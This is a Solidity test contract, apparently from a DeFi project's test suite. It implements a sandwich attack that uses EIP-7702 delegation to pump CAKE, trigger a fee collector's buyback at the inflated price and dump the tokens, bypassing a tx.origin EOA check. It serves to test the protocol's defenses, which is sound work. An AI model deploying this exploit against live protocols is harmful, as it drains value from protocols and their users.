// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IGriddleRouter} from "../../src/interfaces/IGriddleRouter.sol";

/// @dev The two functions of the fee collector the attack needs.
interface ISandwichedCollector {
    function cake() external view returns (address);
    function convert(address pair) external returns (uint256 cakeBurnt);
}

/// @title FeeCollectorSandwicher
/// @notice Attack code for tests: a plain account delegates to it with EIP-7702 and, in one transaction
/// sent to itself, buys CAKE, lets the fee collector buy back at the pumped price and sells the CAKE
/// back. Under EIP-7702 `tx.origin == msg.sender` holds for the account's own calls, so an EOA check
/// does not stop it.
/// @dev Runs as the delegating account: `address(this)` is that account, which holds the stake.
contract FeeCollectorSandwicher {
    /// @notice Only the delegating account may run its own attack.
    error NotSelf(address caller);

    /// @dev The router pays the sale out in native coin to this account, which now has code.
    receive() external payable {}

    /// @notice Pumps CAKE with `stake` native coin, calls `collector.convert(pair)`, dumps the CAKE bought.
    /// Requirements:
    /// - the caller is the delegating account itself.
    function sandwich(IGriddleRouter router, ISandwichedCollector collector, address pair, uint256 stake) external {
        if (msg.sender != address(this)) revert NotSelf(msg.sender);
        address wbnb = router.WETH();
        IERC20 cake = IERC20(collector.cake());
        uint256 cakeBefore = cake.balanceOf(address(this));
        address[] memory path = new address[](2);
        (path[0], path[1]) = (wbnb, address(cake));
        router.swapExactETHForTokens{value: stake}(0, path, address(this), block.timestamp);
        collector.convert(pair);
        uint256 bought = cake.balanceOf(address(this)) - cakeBefore;
        cake.approve(address(router), bought);
        (path[0], path[1]) = (address(cake), wbnb);
        router.swapExactTokensForETH(bought, 0, path, address(this), block.timestamp);
    }
}
